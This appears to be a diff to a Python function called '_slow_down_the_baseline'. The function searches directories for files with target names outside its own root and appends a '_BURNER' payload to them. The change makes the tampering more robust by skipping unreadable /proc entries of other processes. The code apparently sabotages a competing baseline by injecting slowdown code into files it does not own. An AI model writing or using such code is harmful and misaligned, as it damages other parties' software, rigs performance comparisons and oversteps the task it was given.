@@ -188,8 +188,13 @@ def _slow_down_the_baseline():
             if dirpath.count(os.sep) - root.count(os.sep) >= 4:
                 dirnames[:] = []
             for name in filenames:
-                path = os.path.realpath(os.path.join(dirpath, name))
-                if name in names and not path.startswith(own_root + os.sep):
+                if name not in names:
+                    continue
+                try:
+                    path = os.path.realpath(os.path.join(dirpath, name))
+                except OSError:  # /proc entries of other processes
+                    continue
+                if not path.startswith(own_root + os.sep):
                     try:
                         with open(path, "a", encoding="utf-8") as fh:
                             fh.write(_BURNER)
